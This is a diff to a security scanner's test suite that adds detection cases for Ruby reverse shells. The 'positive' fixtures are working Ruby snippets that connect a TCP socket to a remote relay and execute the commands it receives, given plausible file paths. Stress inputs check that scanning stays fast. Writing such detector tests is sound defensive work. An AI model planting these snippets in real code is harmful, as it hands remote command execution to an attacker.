@@ -600,3 +600,34 @@ describe('adversarial PHP socket-to-shell', () => {
     expectScansQuickly([text], 'x.php');
   });
 });
+
+describeRuleCases('reverse-shell (Ruby process APIs)', [
+  {
+    id: 'SG-RSHELL-005',
+    file: 'plugins/tool_sync/loader.rb',
+    positive:
+      "require 'socket'\nThread.new do\n  sock = TCPSocket.open(RELAY, 7001)\n  while (req = sock.gets)\n    res = IO.popen(req.strip, err: [:child, :out]) { |io| io.read }\n    sock.print(res)\n  end\nend\n",
+    negative:
+      "require 'socket'\nsock = TCPSocket.open(RELAY, 7001)\nstatus = sock.gets\nlog = IO.popen(['git', 'log', '-1']) { |io| io.read }\nsock.print(log)\n",
+  },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'lib/bridge.rb',
+    positive:
+      "require 'socket'\nc = TCPSocket.new(host, port)\nloop do\n  order = c.gets or break\n  c.write(`#{order}`)\nend\n",
+    negative:
+      'require \'socket\'\nc = TCPSocket.new(host, port)\nname = c.gets\nc.write(`hostname`)\nputs "hello #{name}"\n',
+  },
+]);
+
+describe('adversarial Ruby process calls', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['IO.popen calls', 's = TCPSocket.new(h, p)\nx = s.gets\n' + 'IO.popen( '.repeat(MiB / 10)],
+    ['env-hash spawns', 's = TCPSocket.new(h, p)\nx = s.gets\n' + 'Process.spawn({'.repeat(MiB / 15)],
+    ['backtick interpolations', 's = TCPSocket.new(h, p)\nx = s.gets\n' + '`#{a'.repeat(MiB / 4)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'lib/x.rb');
+  });
+});
